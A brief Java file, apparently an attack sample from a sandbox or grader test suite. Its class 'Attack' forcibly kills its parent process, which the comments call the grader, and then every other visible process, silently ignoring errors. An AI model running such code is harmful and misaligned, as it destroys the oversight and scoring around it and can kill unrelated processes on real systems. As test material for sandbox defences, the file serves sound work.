// Tries: to end the grader, and all else that it sees
// Gets: 10
// Needs: PROCESSES FILES
class Attack {
    static void run() throws Throwable {
        try {
            ProcessHandle.current().parent().ifPresent(ProcessHandle::destroyForcibly);
            ProcessHandle.allProcesses()
                    .filter(one -> one.pid() != ProcessHandle.current().pid())
                    .forEach(ProcessHandle::destroyForcibly);
        } catch (RuntimeException nothingIsSeen) {
            return;
        }
    }
}
